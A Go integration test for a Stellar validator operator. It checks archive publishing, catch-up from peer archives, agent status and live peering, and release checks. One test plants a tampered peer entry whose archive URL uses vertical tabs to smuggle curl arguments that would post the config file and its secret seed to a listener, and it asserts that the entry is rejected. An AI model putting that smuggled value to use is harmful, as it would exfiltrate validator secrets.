//go:build stellarcore

package stellarcore_test

import (
	"encoding/json"
	"errors"
	"fmt"
	"io"
	"net"
	"net/http"
	"net/http/httptest"
	"os"
	"os/exec"
	"path/filepath"
	"slices"
	"strconv"
	"strings"
	"sync"
	"sync/atomic"
	"testing"
	"time"

	"github.com/prometheus/client_golang/prometheus"
	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"

	stellarv1alpha1 "github.com/stellar-k8s/stellar-operator/api/v1alpha1"
	"github.com/stellar-k8s/stellar-operator/internal/agent"
	"github.com/stellar-k8s/stellar-operator/internal/archive"
	"github.com/stellar-k8s/stellar-operator/internal/peers"
	"github.com/stellar-k8s/stellar-operator/internal/readiness"
	"github.com/stellar-k8s/stellar-operator/internal/renderconfig"
	"github.com/stellar-k8s/stellar-operator/internal/resources"
	"github.com/stellar-k8s/stellar-operator/internal/stellarcore"
)

// accelerate is the one key the test adds to what the operator renders: 1 s ledgers and a checkpoint
// every 8 ledgers instead of 64, so archives fill in seconds. It is not a key the operator writes.
const accelerate = "ARTIFICIALLY_ACCELERATE_TIME_FOR_TESTING = true\n"

// TestFullValidatorsPublishServeAndCatchUp runs a private network as the operator builds it: three
// Full validators of one HIGH organisation on a Custom network, configured by BaseConfig and the pod's
// render-config step (their peers' archives as HISTORY), started by
// the pod's own start script (new-db, new-hist, run) and served by the operator's archive server on
// loopback, the protocol voted by their agents. A fourth validator started later catches up from those archives and follows consensus.
func TestFullValidatorsPublishServeAndCatchUp(t *testing.T) {
	bin := longRunningCore(t, "runs five validators for about a minute and a half")
	pathWithCore := filepath.Dir(bin) + string(os.PathListSeparator) + os.Getenv("PATH")

	org, servers, doc := startPublishingOrganisation(t, bin, pathWithCore)
	lateValidatorCatchesUp(t, bin, org, servers, doc, pathWithCore)
	agentAgainstRealCore(t, bin, org, servers, pathWithCore)
	restartSkipsNewHist(t, bin, org[0], servers[org[0].spec.Name], pathWithCore)
}

// startPublishingOrganisation starts the three Full validators and their archive servers, and waits
// until they are in consensus at the protocol their agents vote and every archive has a checkpoint.
func startPublishingOrganisation(t *testing.T, bin, path string) ([]*node, map[string]*archiveServer, peers.Document) {
	org := fullOrganisation(t, bin)
	servers := map[string]*archiveServer{}
	for _, n := range org {
		servers[n.spec.Name] = serveArchive(t, n)
	}
	doc := loopbackPeers(org)
	for _, n := range org {
		renderForLoopback(t, n, doc, true)
		startWithScript(t, n, path)
	}
	t.Cleanup(func() {
		for _, n := range org {
			stop(n)
		}
	})
	startVoting(t, org).plan(t, nil)
	for _, n := range org {
		waitFor(t, 120*time.Second, n.spec.Name+fmt.Sprintf(" in consensus at protocol %d, voted by its agent", coreProfile.MaxProtocol()), func() error {
			info, err := admin(n, "info")
			if err != nil {
				return err
			}
			if err := readiness.Decide(info, readiness.DefaultMaxLedgerAge); err != nil {
				return err
			}
			if _, v := ledgerOf(info); int32(v) != coreProfile.MaxProtocol() {
				return fmt.Errorf("ledger protocol %d", v)
			}
			return nil
		})
	}
	for _, n := range org {
		// The start script's first step read the real binary's version and found the configured line.
		if log, _ := os.ReadFile(filepath.Join(n.dir, "run.log")); !strings.Contains(string(log), "release line "+coreProfile.Line+", as configured") {
			t.Fatalf("%s: check-release did not confirm the release line:\n%s", n.spec.Name, tail(string(log), 20))
		}
	}
	for _, n := range org {
		waitFor(t, 120*time.Second, n.spec.Name+" publishes a checkpoint its archive server serves", func() error {
			ledger, err := servers[n.spec.Name].currentLedger()
			if err != nil {
				return err
			}
			if ledger < 15 {
				return fmt.Errorf("archive at ledger %d", ledger)
			}
			t.Logf("%s: archive served on %s at ledger %d", n.spec.Name, servers[n.spec.Name].url, ledger)
			return nil
		})
	}
	return org, servers, doc
}

// lateValidatorCatchesUp starts a validator once the network is past its first checkpoints: it has only
// the others' archives to catch up from, through its rendered HISTORY commands.
func lateValidatorCatchesUp(t *testing.T, bin string, org []*node, servers map[string]*archiveServer, doc peers.Document, path string) {
	late := lateValidator(t, bin)
	// stellar-peers tampered with by someone who may update ConfigMaps: an entry whose archive URL hides
	// curl arguments behind vertical tabs that would post the whole file, seed included, to a listener.
	listener, received := loopbackListener(t)
	tampered := peers.Document{Peers: append(slices.Clone(doc.Peers), peers.Peer{
		Name: "intruder", NetworkID: late.spec.NetworkID(), DNSName: "127.0.0.1", PodIP: "127.0.0.1", Port: 30715,
		PublicKey: late.spec.Spec.ValidatorConfig.PublicKey[:1] + strings.Repeat("B", 55), HomeDomain: "example.org", Quality: "HIGH",
		History: "http://" + listener + "/x\v--data-binary\v@" + filepath.Join(late.dir, "stellar-core.cfg") + "\v-H\vx:",
	})}
	renderForLoopback(t, late, tampered, true)
	rendered, _ := os.ReadFile(filepath.Join(late.dir, "stellar-core.cfg"))
	if strings.Contains(string(rendered), "intruder") || strings.Contains(string(rendered), "data-binary") {
		t.Fatalf("the tampered stellar-peers entry reached the file:\n%s", rendered)
	}
	t.Cleanup(func() {
		if n := received.Load(); n != 0 {
			t.Errorf("the loopback listener named by the tampered entry received %d connections", n)
		}
	})
	if strings.Contains(string(rendered), "[HISTORY") || strings.Count(string(rendered), "HISTORY = \"curl -sf http://127.0.0.1:") != 3 {
		t.Fatalf("the late validator should read the three archives through its [[VALIDATORS]] HISTORY only:\n%s", rendered)
	}
	pathsBefore := map[string]int{}
	for name, s := range servers {
		pathsBefore[name] = len(s.paths())
	}
	startWithScript(t, late, path)
	t.Cleanup(func() { stop(late) })
	waitFor(t, 180*time.Second, "the late validator caught up and in consensus", func() error {
		info, err := admin(late, "info")
		if err != nil {
			return err
		}
		if err := readiness.Decide(info, readiness.DefaultMaxLedgerAge); err != nil {
			return err
		}
		ref, err := admin(org[0], "info")
		if err != nil {
			return err
		}
		mine, _ := ledgerOf(info)
		theirs, _ := ledgerOf(ref)
		if mine < 16 || mine+3 < theirs {
			return fmt.Errorf("the late validator is at ledger %d, the network at %d", mine, theirs)
		}
		return nil
	})
	var fetched, checkpoints []string
	for name, s := range servers {
		fetched = append(fetched, s.paths()[pathsBefore[name]:]...)
	}
	for _, p := range fetched {
		if !strings.HasSuffix(p, archive.StateFile) {
			checkpoints = append(checkpoints, p)
		}
	}
	if len(checkpoints) == 0 {
		lateLog, _ := os.ReadFile(filepath.Join(late.dir, "run.log"))
		t.Fatalf("the late validator fetched no checkpoint file from its peers' archives: %v\nits log:\n%s", fetched, tail(string(lateLog), 60))
	}
	t.Logf("the late validator caught up from its peers' archives: %d requests, %d checkpoint files, e.g. %v; "+
		"the listener of the tampered entry received %d connections",
		len(fetched), len(checkpoints), checkpoints[:min(len(checkpoints), 5)], received.Load())
	if received.Load() != 0 {
		t.Fatal("a tampered stellar-peers entry made stellar-core send something to its listener")
	}
}

var (
	buildOperator sync.Once
	operatorPath  string
	operatorErr   error
)

// operatorBinary is the operator's own binary, built once, for the steps the pod runs with it.
func operatorBinary(t *testing.T) string {
	t.Helper()
	buildOperator.Do(func() {
		dir, err := os.MkdirTemp("", "stellar-operator-")
		if err != nil {
			operatorErr = err
			return
		}
		operatorPath = filepath.Join(dir, "manager")
		out, err := exec.Command("go", "build", "-o", operatorPath, "github.com/stellar-k8s/stellar-operator/cmd").CombinedOutput()
		if err != nil {
			operatorErr = fmt.Errorf("go build: %v\n%s", err, out)
		}
	})
	if operatorErr != nil {
		t.Fatal(operatorErr)
	}
	return operatorPath
}

// loopbackListener accepts connections on 127.0.0.1 and counts them.
func loopbackListener(t *testing.T) (string, *atomic.Int64) {
	t.Helper()
	l, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { _ = l.Close() })
	var n atomic.Int64
	go func() {
		for {
			c, err := l.Accept()
			if err != nil {
				return
			}
			n.Add(1)
			_ = c.Close()
		}
	}()
	return l.Addr().String(), &n
}

// restartSkipsNewHist restarts a Full validator with its start script: new-hist is skipped, even
// without its marker, and the archive kept. Without the guard, new-hist would fail on the archive.
func restartSkipsNewHist(t *testing.T, bin string, first *node, server *archiveServer, path string) {
	before, err := server.currentLedger()
	if err != nil {
		t.Fatal(err)
	}
	stop(first)
	if err := os.Rename(filepath.Join(first.dir, "run.log"), filepath.Join(first.dir, "run-before-restart.log")); err != nil {
		t.Fatal(err)
	}
	cmd := exec.Command(bin, "new-hist", first.spec.Name, "--conf", filepath.Join(first.dir, "stellar-core.cfg"))
	cmd.Dir = first.dir
	if out, err := cmd.CombinedOutput(); err == nil {
		t.Fatalf("new-hist on a published archive succeeded; the start script's guard would not be needed:\n%s", out)
	}
	if err := os.Remove(filepath.Join(first.dir, ".history-initialized")); err != nil {
		t.Fatal(err)
	}
	startWithScript(t, first, path)
	waitFor(t, 120*time.Second, first.spec.Name+" back in consensus after its restart", func() error {
		info, err := admin(first, "info")
		if err != nil {
			return err
		}
		return readiness.Decide(info, readiness.DefaultMaxLedgerAge)
	})
	log, _ := os.ReadFile(filepath.Join(first.dir, "run.log"))
	if strings.Contains(string(log), "stellar-core new-hist") || !strings.Contains(string(log), "stellar-core run") {
		t.Errorf("the restart ran new-hist:\n%s", log)
	}
	if now, err := server.currentLedger(); err != nil || now < before {
		t.Fatalf("the archive went from ledger %d to %d (%v) across the restart", before, now, err)
	}
}

// agentAgainstRealCore runs full-1's agent on real stellar-core answers: its status document and its
// metrics, and live peering. A validator that lists nobody, and that nobody lists, is connected to
// full-1 by the agent alone, from a peers file, without restarting anyone.
func agentAgainstRealCore(t *testing.T, bin string, org []*node, servers map[string]*archiveServer, path string) {
	first := org[0]
	core := agent.NewAdmin(strconv.Itoa(int(first.spec.HTTPPort())))

	// The hidden validator: a raw quorum of the three keys, no peer addresses, their archives to read.
	seed, public := genSeed(t, bin)
	// Its ports, as every node's here, below the kernel's ephemeral range.
	hidden := &node{spec: customValidator("hidden", public, 30705), seed: seed, dir: t.TempDir()}
	vc := hidden.spec.Spec.ValidatorConfig
	vc.HomeDomain, vc.History, vc.AllowUnsafeQuorum = "", &stellarv1alpha1.HistorySpec{Publish: new(false)}, true
	keys := make([]string, 0, len(org))
	for _, n := range org {
		keys = append(keys, fmt.Sprintf("%q", n.spec.Spec.ValidatorConfig.PublicKey))
		vc.HistoryArchiveURLs = append(vc.HistoryArchiveURLs, servers[n.spec.Name].url)
	}
	vc.QuorumSet = "[QUORUM_SET]\nTHRESHOLD_PERCENT = 67\nVALIDATORS = [" + strings.Join(keys, ", ") + "]\n"
	renderForLoopback(t, hidden, peers.Document{}, true)
	rendered, _ := os.ReadFile(filepath.Join(hidden.dir, "stellar-core.cfg"))
	if strings.Contains(string(rendered), "KNOWN_PEERS") || strings.Contains(string(rendered), "PREFERRED_PEERS") {
		t.Fatalf("the hidden validator must know no peer:\n%s", rendered)
	}
	startWithScript(t, hidden, path)
	t.Cleanup(func() { stop(hidden) })
	waitFor(t, 60*time.Second, "the hidden validator answers", func() error {
		if _, err := admin(hidden, "info"); err != nil {
			log, _ := os.ReadFile(filepath.Join(hidden.dir, "run.log"))
			return fmt.Errorf("%w; its log ends:\n%s", err, tail(string(log), 30))
		}
		return nil
	})

	agentReports(t, agent.New(agent.Args{Port: 1, PublishQueue: filepath.Join(first.dir, "buckets", "publishqueue")}, core, io.Discard))
	livePeering(t, core, first, org, hidden.spec, public)
}

// agentReports checks the agent's status document and metrics built from a real validator's answers.
func agentReports(t *testing.T, ag *agent.Agent) {
	rec := httptest.NewRecorder()
	ag.Status.ServeHTTP(rec, httptest.NewRequest(http.MethodGet, agent.StatusPath, nil))
	var status agent.Status
	if err := json.Unmarshal(rec.Body.Bytes(), &status); err != nil {
		t.Fatal(err)
	}
	if !status.InSync() || status.Ledger.Num < 16 || int32(status.ProtocolVersion) != coreProfile.MaxProtocol() || status.Quorum.Agree < 3 ||
		status.Quorum.FailAt < 1 || status.PublishBacklog == nil || status.Peers.Authenticated < 2 {
		t.Fatalf("full-1's status document from real answers: %s", rec.Body.String())
	}
	t.Logf("full-1's status document: %s", strings.TrimSpace(rec.Body.String()))
	rec = httptest.NewRecorder()
	ag.Metrics.ServeHTTP(rec, httptest.NewRequest(http.MethodGet, "/metrics", nil))
	for _, name := range []string{"stellar_core_ledger_num{", "stellar_core_ledger_age{", "stellar_core_quorum_fail_at{",
		"stellar_core_quorum_transitive_intersection{", "stellar_core_synced{", "stellar_core_peers_authenticated_count{",
		"stellar_core_history_publish_failure{", "stellar_core_history_publish_success{", "stellar_core_ledger_ledger_close_seconds_count{",
		"stellar_core_protocol_version{", "stellar_core_up 1"} {
		if !strings.Contains(rec.Body.String(), "\n"+name) {
			t.Errorf("metrics from real answers lack %s", name)
		}
	}

}

// livePeering gives first's agent a peers file where only it names the hidden validator: one round
// connects them, the next dials nobody.
func livePeering(t *testing.T, core *agent.Admin, first *node, org []*node, hidden *stellarv1alpha1.StellarNode, public string) {
	hiddenPeer := resources.PeerOf(hidden, "cluster.local")
	hiddenPeer.NetworkID, hiddenPeer.PodIP, hiddenPeer.PublicKey = first.spec.NetworkID(), "127.0.0.1", public
	peersPath := filepath.Join(t.TempDir(), "peers.json")
	data, _ := json.Marshal(peers.Document{Peers: append(loopbackPeers(org).Peers, hiddenPeer)})
	if err := os.WriteFile(peersPath, data, 0o600); err != nil {
		t.Fatal(err)
	}
	p := &agent.Peering{Admin: core, PeersFile: peersPath, Self: first.spec.Name, NetworkID: first.spec.NetworkID(), MaxPerRound: 4}
	dialled, err := p.Round(t.Context(), time.Now())
	if err != nil || strings.Join(dialled, ",") != "hidden" {
		t.Fatalf("the agent dialled %v (%v), want only the hidden validator: the others are connected", dialled, err)
	}
	waitFor(t, 30*time.Second, "full-1 authenticated with the hidden validator", func() error {
		connected, err := core.AuthenticatedPeers(t.Context())
		if err != nil {
			return err
		}
		for _, c := range connected {
			if c.ID == public {
				return nil
			}
		}
		return fmt.Errorf("%d authenticated peers, the hidden one not among them", len(connected))
	})
	if dialled, _ := p.Round(t.Context(), time.Now().Add(time.Hour)); len(dialled) != 0 {
		t.Fatalf("dialled %v once everyone is connected", dialled)
	}
	t.Log("the agent connected full-1 to a validator only its peers file named, without a restart")
}

// fullOrganisation is three validators of one HIGH home domain on a Custom network, each publishing a
// local archive (the default there), with its own seed and ports.
func fullOrganisation(t *testing.T, bin string) []*node {
	var nodes []*node
	for i := range 3 {
		seed, public := genSeed(t, bin)
		// Below the kernel's ephemeral range (32768 and up): no outgoing connection can hold them.
		port := int32(30625 + 10*i)
		spec := customValidator(fmt.Sprintf("full-%d", i+1), public, port)
		spec.Spec.ValidatorConfig.Quorum = &stellarv1alpha1.QuorumSpec{Quality: stellarv1alpha1.QualityHigh}
		spec.Spec.ValidatorConfig.History = &stellarv1alpha1.HistorySpec{Port: port + 2}
		if !spec.PublishesLocally() {
			t.Fatal("a Custom validator publishes a local archive by default")
		}
		nodes = append(nodes, &node{spec: spec, seed: seed, dir: t.TempDir()})
	}
	return nodes
}

// lateValidator is a Basic validator of another organisation that lists the three: it publishes
// nothing, so its only archives are theirs.
func lateValidator(t *testing.T, bin string) *node {
	seed, public := genSeed(t, bin)
	spec := customValidator("late", public, 30695)
	vc := spec.Spec.ValidatorConfig
	vc.HomeDomain = "late.example.org"
	vc.Quorum = &stellarv1alpha1.QuorumSpec{Quality: stellarv1alpha1.QualityMedium}
	vc.History = &stellarv1alpha1.HistorySpec{Publish: new(false)}
	// An organisation of one validator tolerates no failure of its own.
	vc.AllowUnsafeQuorum = true
	return &node{spec: spec, seed: seed, dir: t.TempDir()}
}

func customValidator(name, public string, port int32) *stellarv1alpha1.StellarNode {
	return &stellarv1alpha1.StellarNode{
		ObjectMeta: metav1.ObjectMeta{Namespace: "stellar", Name: name},
		Spec: stellarv1alpha1.StellarNodeSpec{
			NodeType: stellarv1alpha1.NodeTypeValidator, Network: stellarv1alpha1.NetworkCustom,
			CustomNetworkPassphrase: "stellar-operator archive test ; 2026", Version: coreRelease,
			ValidatorConfig: &stellarv1alpha1.ValidatorConfig{
				SeedSecretRef: "seed", PeerPort: port, HTTPPort: port + 1, PublicKey: public, HomeDomain: "example.org",
				ProtocolVersion: new(coreProfile.MaxProtocol()),
			},
		},
	}
}

func genSeed(t *testing.T, bin string) (seed, public string) {
	out, err := exec.Command(bin, "gen-seed").Output()
	if err != nil {
		t.Fatal(err)
	}
	for line := range strings.SplitSeq(string(out), "\n") {
		if f := strings.Fields(line); len(f) > 0 && strings.HasPrefix(line, "Secret seed") {
			seed = f[len(f)-1]
		} else if len(f) > 0 && strings.HasPrefix(line, "Public") {
			public = f[len(f)-1]
		}
	}
	return seed, public
}

// loopbackPeers is what peer discovery publishes of the nodes, with loopback for their addresses and
// their archive servers.
func loopbackPeers(nodes []*node) peers.Document {
	var doc peers.Document
	for _, n := range nodes {
		p := resources.PeerOf(n.spec, "cluster.local")
		p.DNSName, p.PodIP = "127.0.0.1", "127.0.0.1"
		if p.History == "" {
			panic(n.spec.Name + " publishes no archive")
		}
		p.History = fmt.Sprintf("http://127.0.0.1:%d", n.spec.HistoryPort())
		doc.Peers = append(doc.Peers, p)
	}
	return doc
}

// renderForLoopback runs the pod's render-config on the node's base configuration and stellar-peers,
// then moves the data paths into the node's directory and, when asked, accelerates time.
func renderForLoopback(t *testing.T, n *node, doc peers.Document, accelerated bool) {
	t.Helper()
	profile, err := stellarcore.ProfileFor(n.spec.Spec.Version)
	if err != nil {
		t.Fatal(err)
	}
	base, err := stellarcore.BaseConfig(n.spec, profile)
	if err != nil {
		t.Fatal(err)
	}
	basePath, peersPath := filepath.Join(n.dir, "base.cfg"), filepath.Join(n.dir, "peers.json")
	data, _ := json.Marshal(doc)
	if err := os.WriteFile(basePath, []byte(base), 0o600); err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(peersPath, data, 0o600); err != nil {
		t.Fatal(err)
	}
	out := filepath.Join(n.dir, "stellar-core.cfg")
	vc := n.spec.Spec.ValidatorConfig
	args := renderconfig.Args{Base: basePath, Peers: peersPath, Out: out, NodeName: n.spec.Name, NetworkID: n.spec.NetworkID(),
		StellarCoreVersion: n.spec.Spec.Version,
		PublicKey:          vc.PublicKey, QuorumFromPeers: true, AllowLoopback: true}
	env := map[string]string{renderconfig.SeedEnv: n.seed, renderconfig.PodIPEnv: "127.0.0.1"}
	// render-config checks the file against stellar-core's rules before it writes it.
	if err := renderconfig.Run(args.List()[1:], func(k string) string { return env[k] }, &strings.Builder{}); err != nil {
		t.Fatalf("%s: render-config: %v", n.spec.Name, err)
	}
	rendered, _ := os.ReadFile(out)
	adapted := strings.ReplaceAll(string(rendered), stellarcore.DataDir+"/", n.dir+"/")
	if accelerated {
		header, rest, _ := strings.Cut(adapted, "\n")
		adapted = header + "\n" + accelerate + rest
	}
	if err := os.WriteFile(out, []byte(adapted), 0o600); err != nil {
		t.Fatal(err)
	}
}

// startWithScript runs the stellar-core container's own start script, its paths moved into the node's
// directory: new-db and new-hist on a fresh volume, then stellar-core run in its place.
func startWithScript(t *testing.T, n *node, path string) {
	t.Helper()
	script := resources.ValidatorStartScript(n.spec)
	// The script's first step is the operator's check-release on the real `stellar-core version`.
	script = strings.ReplaceAll(script, resources.ToolsBinary, operatorBinary(t))
	script = strings.ReplaceAll(script, "/etc/stellar/rendered/stellar-core.cfg", filepath.Join(n.dir, "stellar-core.cfg"))
	script = strings.ReplaceAll(script, stellarcore.DataDir+"/", n.dir+"/")
	log, err := os.OpenFile(filepath.Join(n.dir, "run.log"), os.O_CREATE|os.O_APPEND|os.O_WRONLY, 0o600)
	if err != nil {
		t.Fatal(err)
	}
	n.cmd = exec.Command("/bin/sh", "-c", "set -x\n"+script)
	n.cmd.Dir, n.cmd.Stdout, n.cmd.Stderr = n.dir, log, log
	n.cmd.Env = append(os.Environ(), "PATH="+path)
	if err := n.cmd.Start(); err != nil {
		t.Fatal(err)
	}
}

// archiveServer is the operator's archive server for one node, on loopback, with the paths it served.
type archiveServer struct {
	url string
	reg *prometheus.Registry

	mu     sync.Mutex
	served []string
}

func serveArchive(t *testing.T, n *node) *archiveServer {
	t.Helper()
	reg := prometheus.NewRegistry()
	ln, err := net.Listen("tcp", fmt.Sprintf("127.0.0.1:%d", n.spec.HistoryPort()))
	if err != nil {
		t.Fatal(err)
	}
	s := &archiveServer{url: "http://" + ln.Addr().String(), reg: reg}
	files := archive.NewServer(filepath.Join(n.dir, "history"), reg)
	srv := &http.Server{ReadHeaderTimeout: 5 * time.Second, Handler: http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		s.mu.Lock()
		s.served = append(s.served, r.URL.Path)
		s.mu.Unlock()
		files.ServeHTTP(w, r)
	})}
	go func() { _ = srv.Serve(ln) }()
	t.Cleanup(func() { _ = srv.Close() })
	return s
}

// currentLedger is the archive's last published checkpoint, as its state file says.
func (s *archiveServer) currentLedger() (int64, error) {
	resp, err := http.Get(s.url + "/" + archive.StateFile)
	if err != nil {
		return 0, err
	}
	defer func() { _ = resp.Body.Close() }()
	if resp.StatusCode != http.StatusOK {
		return 0, fmt.Errorf("%s: %s", archive.StateFile, resp.Status)
	}
	if resp.Header.Get("Cache-Control") != "no-cache" {
		return 0, errors.New("the state file must never be cached")
	}
	var state struct {
		CurrentLedger int64 `json:"currentLedger"`
	}
	return state.CurrentLedger, json.NewDecoder(resp.Body).Decode(&state)
}

// paths are the request paths the server has answered so far.
func (s *archiveServer) paths() []string {
	s.mu.Lock()
	defer s.mu.Unlock()
	return slices.Clone(s.served)
}

// ledgerOf is the number and protocol of the last closed ledger /info reports.
func ledgerOf(info []byte) (num int64, version int) {
	var doc struct {
		Info struct {
			Ledger struct {
				Num     int64 `json:"num"`
				Version int   `json:"version"`
			} `json:"ledger"`
		} `json:"info"`
	}
	_ = json.Unmarshal(info, &doc)
	return doc.Info.Ledger.Num, doc.Info.Ledger.Version
}

func tail(s string, n int) string {
	lines := strings.Split(s, "\n")
	return strings.Join(lines[max(0, len(lines)-n):], "\n")
}

// TestRealStellarCoreReleaseCheck gives the real binary's `stellar-core version` answer to the start
// script's check-release: its own release passes, any other line is refused with the reason.
func TestRealStellarCoreReleaseCheck(t *testing.T) {
	bin := longRunningCore(t, "builds the operator's binary")
	manager := operatorBinary(t)
	check := func(version string) (string, error) {
		cmd := exec.Command("/bin/sh", "-c", bin+" version | "+manager+" "+strings.Join(renderconfig.ReleaseArgs(version), " "))
		out, err := cmd.CombinedOutput()
		return string(out), err
	}
	if out, err := check(coreRelease); err != nil {
		t.Fatalf("its own release %s refused: %v\n%s", coreRelease, err, out)
	}
	other := stellarcore.Newest()
	if other.Line == coreProfile.Line {
		other = stellarcore.Oldest()
	}
	version := strings.TrimPrefix(strings.Fields(other.Tags[0])[0], "v")
	out, err := check(version)
	if err == nil || !strings.Contains(out, renderconfig.ReleaseMismatch) {
		t.Fatalf("spec.version %s with a %s binary: %v\n%s", version, coreProfile.Line, err, out)
	}
	t.Logf("check-release with spec.version %s: %s", version, strings.TrimSpace(out))
}
